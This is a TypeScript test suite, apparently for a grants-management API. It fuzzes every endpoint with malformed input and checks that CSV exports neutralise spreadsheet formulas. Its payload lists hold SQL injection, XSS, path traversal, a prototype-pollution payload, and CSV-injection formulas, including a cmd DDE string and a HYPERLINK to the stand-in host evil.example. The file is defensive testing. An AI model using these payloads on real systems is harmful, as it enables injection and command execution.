import { createHash } from 'node:crypto';
import { DataSource } from 'typeorm';
import {
  createDraftApplication,
  createOpenCompetition,
  createStaff,
  createTestContext,
  fixtures,
  HttpResponse,
  multipart,
  MultipartBody,
  insertGrant,
  login,
  loginAdmin,
  registerNgo,
  Session,
  submitApplication,
  TestContext,
} from '@grants/testing';

/**
 * Hostile input across every endpoint of the OpenAPI document: wrong types, missing and unknown
 * fields, huge strings, unicode, negative and NaN money, invalid UUIDs, SQL and HTML fragments,
 * malformed JSON and oversized bodies. Every answer must be a 4xx in API.md's error shape.
 * New endpoints are fuzzed automatically because the list comes from the OpenAPI document.
 */

type Schema = {
  type?: string;
  $ref?: string;
  properties?: Record<string, Schema>;
  items?: Schema;
  required?: string[];
  enum?: unknown[];
  allOf?: Schema[];
  oneOf?: Schema[];
};

// A deterministic generator, so a failure reproduces.
let seed = 42;
const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
const pick = <T>(xs: T[]): T => xs[Math.floor(rnd() * xs.length)];

const NASTY_STRINGS = [
  '',
  ' ',
  'x'.repeat(20_000),
  "'; DROP TABLE applications; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u0000\u0001\u0002',
  '🚀👩‍👩‍👧‍👦',
  'Ресурсный центр «Наш город»',
  '\\u0000',
  '../../etc/passwd',
  '{{constructor.constructor("return process")()}}',
  '%00',
  '1e309',
  'NaN',
  '-1',
  '150000.001',
  // Spreadsheet formulas (OWASP CSV injection): data everywhere, neutralised in CSV exports.
  '=HYPERLINK("http://evil.example","Подробнее")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

/** `{"<key>":[[[…depth…]]]}`: a stack-deep body (2,000 levels is about 4 KB). */
const deepBody = (key: string, depth = 2000) => `{"${key}":${'['.repeat(depth)}${']'.repeat(depth)}}`;
const NASTY_VALUES: unknown[] = [
  null,
  true,
  -1,
  -0.01,
  1.005,
  Number.MAX_SAFE_INTEGER,
  1e308,
  [],
  [null],
  {},
  { $gt: '' },
  { __proto__: { admin: true } },
  ...NASTY_STRINGS,
];
const BAD_IDS = ['not-a-uuid', '1', "' OR '1'='1", '00000000-0000-0000-0000-00000000000g', '%2e%2e', 'x'.repeat(300)];

function resolve(doc: any, schema: Schema | undefined): Schema | undefined {
  if (!schema) return undefined;
  if (schema.$ref) return resolve(doc, doc.components.schemas[schema.$ref.split('/').pop()!]);
  if (schema.allOf) return Object.assign({}, ...schema.allOf.map((s) => resolve(doc, s)));
  return schema;
}

/** A body that breaks the schema in one random way (or several). */
function hostileBody(doc: any, schema: Schema | undefined): unknown {
  const s = resolve(doc, schema);
  const props = Object.keys(s?.properties ?? {});
  const mode = Math.floor(rnd() * 6);
  if (mode === 0 || !props.length) return pick(NASTY_VALUES);
  const body: Record<string, unknown> = {};
  for (const p of props) if (rnd() < 0.7) body[p] = pick(NASTY_VALUES);
  if (mode === 1) body[`unknown_${Math.floor(rnd() * 1000)}`] = 'x';
  if (mode === 2) for (const p of props) body[p] = 'x'.repeat(5000);
  if (mode === 3) body[pick(props)] = { nested: pick(NASTY_VALUES) };
  return body;
}

/** A report body with the right shape but hostile values in its nested rows. */
function nastyReport(): unknown {
  const row = () => ({ indicator: pick(NASTY_VALUES), target: pick(NASTY_VALUES), achieved: pick(NASTY_VALUES) });
  const line = () => ({ item: pick(NASTY_VALUES), planned: pick(NASTY_VALUES), spent: pick(NASTY_VALUES) });
  return {
    narrative: rnd() < 0.5 ? 'x'.repeat(30_000) : pick(NASTY_VALUES),
    results: rnd() < 0.3 ? pick(NASTY_VALUES) : [row(), row()],
    expenditures: rnd() < 0.3 ? pick(NASTY_VALUES) : [line(), line()],
  };
}

function isErrorShape(res: HttpResponse): boolean {
  const b = res.body;
  return (
    b &&
    typeof b === 'object' &&
    b.statusCode === res.status &&
    typeof b.error === 'string' &&
    (typeof b.message === 'string' || Array.isArray(b.message)) &&
    typeof b.code === 'string'
  );
}

describe('Hostile input on every endpoint', () => {
  let ctx: TestContext;
  let doc: any;
  let sessions: Record<string, Session | undefined>;

  beforeAll(async () => {
    ctx = await createTestContext();
    const admin = await loginAdmin(ctx.http);
    sessions = {
      anonymous: undefined,
      applicant: await registerNgo(ctx.http),
      consultant: await createStaff(ctx.http, admin, 'consultant'),
      expert: await createStaff(ctx.http, admin, 'expert'),
      admin,
    };
    doc = (await ctx.http.get('/api/docs-json')).body;
  });
  afterAll(() => ctx.close());
  // The hostile rounds may log their callers out everywhere (POST /auth/logout-everywhere): each test signs in afresh.
  beforeEach(async () => {
    for (const [role, session] of Object.entries(sessions)) {
      if (session) sessions[role] = { ...session, ...(await login(ctx.http, session.user.email, session.password)) };
    }
  });

  it('answers at least 1,000 malformed requests with 4xx and the error shape, never 5xx', async () => {
    const operations: { method: string; path: string; op: any }[] = [];
    for (const [path, item] of Object.entries<any>(doc.paths)) {
      for (const method of ['get', 'post', 'put', 'patch', 'delete']) {
        if (item[method] && !path.includes('/docs'))
          operations.push({ method: method.toUpperCase(), path, op: item[method] });
      }
    }
    expect(operations.length).toBeGreaterThan(5);

    const failures: string[] = [];
    let sent = 0;
    let deep = 0;
    const rounds = Math.ceil(1100 / operations.length);
    for (let round = 0; round < rounds; round++) {
      for (const { method, path, op } of operations) {
        const role = pick(Object.keys(sessions));
        // Ending every session would log the fuzz's own callers out: that operation is fuzzed anonymously.
        const client =
          sessions[role] && !path.endsWith('/logout-everywhere') ? ctx.http.as(sessions[role]!) : ctx.http.anonymous();
        const url = path.replace(/\{[^}]+\}/g, () =>
          rnd() < 0.6 ? encodeURIComponent(pick(BAD_IDS)) : '3f2504e0-4f89-41d3-9a0c-0305e82c3301',
        );
        const query =
          rnd() < 0.5
            ? `?page=${encodeURIComponent(String(pick(NASTY_VALUES)))}&pageSize=-5&status=%3Cx%3E&competitionId=zzz&year=abc`
            : '';
        const schema = op.requestBody?.content?.['application/json']?.schema;
        let res: HttpResponse;
        const kind = rnd();
        if (method === 'GET' || method === 'DELETE') {
          res = await client.request(method as 'GET', url + query);
        } else if (kind < 0.1) {
          res = await client.request(method as 'POST', url, '{"broken": ', { 'content-type': 'application/json' });
        } else if (kind < 0.13) {
          res = await client.request(method as 'POST', url, JSON.stringify({ blob: 'x'.repeat(1_100_000) }), {
            'content-type': 'application/json',
          });
        } else if (kind < 0.16) {
          res = await client.request(method as 'POST', url, 'a=1&b=2', { 'content-type': 'text/plain' });
        } else if (kind < 0.22) {
          const props = Object.keys(resolve(doc, schema)?.properties ?? {});
          res = await client.request(method as 'POST', url, deepBody(props.length ? pick(props) : 'x'), {
            'content-type': 'application/json',
          });
          deep++;
        } else {
          res = await client.request(method as 'POST', url, JSON.stringify(hostileBody(doc, schema)), {
            'content-type': 'application/json',
          });
        }
        sent++;
        const acceptable = res.status >= 400 && res.status < 500 && isErrorShape(res);
        // A hostile body can still be valid for an endpoint without a body (e.g. a publish action on a missing id → 404).
        // PATCH /me takes only optional free text (a name) besides the locale: `{}` or `{"fullName": "<b>"}` is valid.
        const freeText = `${method} ${path}` === 'PATCH /api/v1/me' && res.status === 200;
        if (!acceptable && !freeText && !(res.status < 400 && !schema)) {
          failures.push(`${method} ${url}${query} as ${role} → ${res.status} ${res.text.slice(0, 200)}`);
        }
      }
    }
    console.log(
      `fuzz: ${sent} requests (${deep} nested 2,000 deep) over ${operations.length} operations, ${failures.length} failures`,
    );
    expect(sent).toBeGreaterThanOrEqual(1000);
    expect(deep).toBeGreaterThan(10);
    expect(failures.slice(0, 20)).toEqual([]);
  });

  it('answers hostile multipart uploads to every multipart operation with 201 or a 4xx in the error shape', async () => {
    const ngo = sessions.applicant!;
    const competition = await createOpenCompetition(ctx.http, sessions.admin!);
    const multipartOps = Object.entries<any>(doc.paths).flatMap(([path, item]) =>
      Object.entries<any>(item)
        .filter(([, op]) => op?.requestBody?.content?.['multipart/form-data'])
        .map(([method]) => ({ method: method.toUpperCase(), path })),
    );
    expect(multipartOps.length).toBeGreaterThanOrEqual(1);
    const contents = [
      fixtures.pdf(),
      fixtures.docx(),
      fixtures.exe(),
      fixtures.svg(),
      fixtures.zip(),
      Buffer.alloc(0),
      Buffer.from('%PDF'),
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]),
      Buffer.from([0x50, 0x4b, 0x03, 0x04, 0xff, 0xff, 0xff, 0xff]),
    ];
    const hostile = (): MultipartBody | string => {
      const mode = Math.floor(rnd() * 8);
      if (mode === 0) return '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4';
      if (mode === 1) return new MultipartBody(Buffer.from('no boundary here'), 'multipart/form-data');
      const parts = [];
      if (rnd() < 0.8)
        parts.push({
          name: rnd() < 0.8 ? 'type' : pick(['Type', '__proto__', 'constructor', 'x'.repeat(300)]),
          value: String(pick(NASTY_VALUES)),
        });
      if (rnd() < 0.3) parts.push({ name: 'type', value: 'charter' });
      if (rnd() < 0.2) parts.push({ name: pick(NASTY_STRINGS) || 'empty', value: 'x' });
      const files = rnd() < 0.15 ? 2 : rnd() < 0.1 ? 0 : 1;
      for (let i = 0; i < files; i++) {
        parts.push({
          name: rnd() < 0.85 ? 'file' : 'attachment',
          file: {
            fileName: String(pick(NASTY_STRINGS)),
            content: pick(contents),
            contentType: pick(['application/pdf', 'text/html', '', 'image/svg+xml']),
          },
        });
      }
      return multipart(parts);
    };
    const failures: string[] = [];
    let sent = 0;
    for (const { method, path } of multipartOps) {
      for (let i = 0; i < 60; i++) {
        const target = (await createDraftApplication(ctx.http, ngo, competition.id)).id;
        const url = path.replace(/\{[^}]+\}/g, () => (rnd() < 0.1 ? encodeURIComponent(pick(BAD_IDS)) : target));
        const body = hostile();
        const res =
          typeof body === 'string'
            ? await ctx.http
                .as(ngo)
                .request(method as 'POST', url, body, { 'content-type': 'multipart/form-data; boundary=x' })
            : await ctx.http.as(ngo).request(method as 'POST', url, body);
        sent++;
        if (!(res.status === 201 || (res.status >= 400 && res.status < 500 && isErrorShape(res)))) {
          failures.push(`${method} ${url} → ${res.status} ${res.text.slice(0, 200)}`);
        }
      }
    }
    console.log(`fuzz: ${sent} multipart requests over ${multipartOps.length} operations, ${failures.length} failures`);
    expect(failures.slice(0, 20)).toEqual([]);
  });

  it('answers hostile report, agreement and review bodies on a real grant with 4xx, never 5xx', async () => {
    // Fresh sessions: the fuzz above may have logged the shared ones out, and a 401 must not pass for a 4xx here.
    const [applicant, admin] = [await registerNgo(ctx.http), await loginAdmin(ctx.http)];
    const consultant = await createStaff(ctx.http, admin, 'consultant');
    // The interim report is submitted and the grant active, so a body that happens to be valid meets a 409.
    const { grantId } = await insertGrant(ctx.api.get(DataSource), applicant, { report: 'submitted' });
    const targets: Array<{ path: string; method: 'PUT' | 'POST'; as: Session; op: string }> = [
      { path: `/grants/${grantId}/reports/interim`, method: 'PUT', as: applicant, op: '/grants/{id}/reports/{code}' },
      { path: `/grants/${grantId}/agreement`, method: 'POST', as: admin, op: '/grants/{id}/agreement' },
      {
        path: `/grants/${grantId}/reports/final/return`,
        method: 'POST',
        as: consultant,
        op: '/grants/{id}/reports/{code}/return',
      },
    ];
    const failures: string[] = [];
    for (let i = 0; i < 60; i++) {
      for (const t of targets) {
        const item = doc.paths[`/api/v1${t.op}`] ?? doc.paths[t.op];
        const schema = item[t.method.toLowerCase()].requestBody?.content?.['application/json']?.schema;
        const body = i % 3 === 0 && t.method === 'PUT' ? nastyReport() : hostileBody(doc, schema);
        const res = await ctx.http.as(t.as).request(t.method, t.path, JSON.stringify(body), {
          'content-type': 'application/json',
        });
        if (!([400, 409, 422].includes(res.status) && isErrorShape(res)))
          failures.push(
            `${t.method} ${t.path} ${JSON.stringify(body).slice(0, 120)} → ${res.status} ${res.text.slice(0, 160)}`,
          );
      }
    }
    expect(failures.slice(0, 10)).toEqual([]);
    const report = await ctx.http.as(applicant).get(`/grants/${grantId}/reports/interim`);
    expect(report.body).toMatchObject({ status: 'submitted', narrative: 'Проект идёт по плану' });
  });

  it('answers a 2,000-deep body with 400 on every operation that takes a JSON body', async () => {
    const wrong: string[] = [];
    let checked = 0;
    const admin = await loginAdmin(ctx.http); // the fuzz above may have logged the shared session out
    for (const [path, item] of Object.entries<any>(doc.paths)) {
      for (const method of ['post', 'put', 'patch']) {
        const schema = item[method]?.requestBody?.content?.['application/json']?.schema;
        if (!schema) continue;
        const url = path.replace(/\{[^}]+\}/g, '3f2504e0-4f89-41d3-9a0c-0305e82c3301');
        const props = Object.keys(resolve(doc, schema)?.properties ?? {});
        const res = await ctx.http.as(admin).request(method.toUpperCase() as 'POST', url, deepBody(props[0] ?? 'x'), {
          'content-type': 'application/json',
        });
        checked++;
        if (res.status !== 400 || !isErrorShape(res) || !/deeper than/.test(String(res.body.message)))
          wrong.push(`${method} ${path} → ${res.status} ${res.text.slice(0, 120)}`);
      }
    }
    expect(checked).toBeGreaterThan(10);
    expect(wrong).toEqual([]);
  });

  it('keeps spreadsheet formulas as data in JSON and neutralises them in the CSV export', async () => {
    const formulas = {
      organization: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
      title: "+cmd|' /C calc'!A0",
      summary: '-5%',
      geography: '@SUM(1+1)',
    };
    // A fresh session: the fuzz above may have logged the shared one out.
    const admin = await loginAdmin(ctx.http);
    const ngo = await registerNgo(ctx.http, { organization: { fullName: formulas.organization } });
    const competition = await createOpenCompetition(ctx.http, admin);
    const application = await createDraftApplication(ctx.http, ngo, competition.id, {
      title: formulas.title,
      summary: formulas.summary,
      geography: formulas.geography,
    });
    const read = await ctx.http.as(ngo).get(`/applications/${application.id}`);
    expect(read.body).toMatchObject({ title: formulas.title, summary: '-5%', geography: formulas.geography });
    await submitApplication(ctx.http, ngo, application.id);
    // The award itself is another suite's concern: the row is made awarded directly.
    await ctx.api
      .get(DataSource)
      .query(
        `UPDATE applications SET status = 'awarded', awarded_amount = requested_amount, score = 80 WHERE id = $1`,
        [application.id],
      );
    await ctx.api
      .get(DataSource)
      .query(`UPDATE competitions SET status = 'results_announced', announced_at = now() WHERE id = $1`, [
        competition.id,
      ]);
    const csv = await ctx.http.as(admin).get(`/statistics/${competition.year}/export.csv`);
    expect(csv.status).toBe(200);
    const cells = csv.text
      .slice(1)
      .split('\r\n')
      .filter(Boolean)
      .slice(1)
      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, '')))
      .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const value of Object.values(formulas)) expect(cells).toContain(`'${value}`);
    const json = await ctx.http.as(admin).get(`/statistics/${competition.year}/export.json`);
    expect(json.body.grants).toEqual(
      expect.arrayContaining([expect.objectContaining({ title: formulas.title, description: '-5%' })]),
    );
  });

  it('keeps HTML and SQL fragments as plain data', async () => {
    const fragment = `<b>Наш город</b> '; DROP TABLE organizations; -- ${createHash('sha1').update(String(Date.now())).digest('hex').slice(0, 6)}`;
    const ngo = await registerNgo(ctx.http, { fullName: fragment });
    const me = await ctx.http.as(ngo).get('/me');
    expect(me.body.fullName).toBe(fragment);
  });
});
